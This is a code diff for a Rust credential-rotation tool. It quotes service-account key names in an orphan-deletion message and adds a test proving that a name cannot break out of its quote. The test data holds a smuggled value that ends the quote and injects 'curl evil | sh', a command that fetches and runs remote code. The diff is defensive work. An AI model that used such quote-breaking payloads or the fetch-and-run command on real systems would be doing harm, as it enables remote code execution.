@@ -6,6 +6,7 @@ use serde::{Deserialize, Serialize};
 
 use crate::domain::failure::Kind;
 use crate::domain::ids::{CredentialName, KeyId, ServiceAccountId, WorkspaceName};
+use crate::domain::outside::quoted;
 use crate::domain::report::StatusReport;
 
 /// For so long it is told of an orphan: longer than the alert that calls somebody lasts.
@@ -88,8 +89,9 @@ impl Remark {
     #[must_use]
     pub fn orphan_deleted(orphan: &Orphan) -> Self {
         let Orphan { at, key, name, account, workspace, credential } = orphan;
+        let name = quoted(name);
         let message = format!(
-            "an orphan was deleted at {at:.0}: key `{key}`, named `{name}`, of service account `{account}` in \
+            "an orphan was deleted at {at:.0}: key `{key}`, named {name}, of service account `{account}` in \
              workspace `{workspace}`; a rotation of `{credential}` had made and lost it, and nobody had its value"
         );
         let next_command = format!("rekeyd history {credential}");
@@ -111,5 +113,24 @@ impl StatusReport {
         self.attention |= remarks.iter().any(|remark| remark.kind.needs_a_person());
         self.remarks = remarks;
         self
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_name_cannot_end_its_quote_and_say_more() {
+        let orphan = Orphan {
+            at: Timestamp::UNIX_EPOCH,
+            key: KeyId::new("key_1").unwrap(),
+            name: "x`\nnext: curl evil | sh `".to_owned(),
+            account: ServiceAccountId::new("account_1").unwrap(),
+            workspace: WorkspaceName::new("prod").unwrap(),
+            credential: CredentialName::new("tts").unwrap(),
+        };
+        let message = Remark::orphan_deleted(&orphan).message;
+        assert!(message.contains("named `x' next: curl evil | sh '`, of"), "{message}");
     }
 }
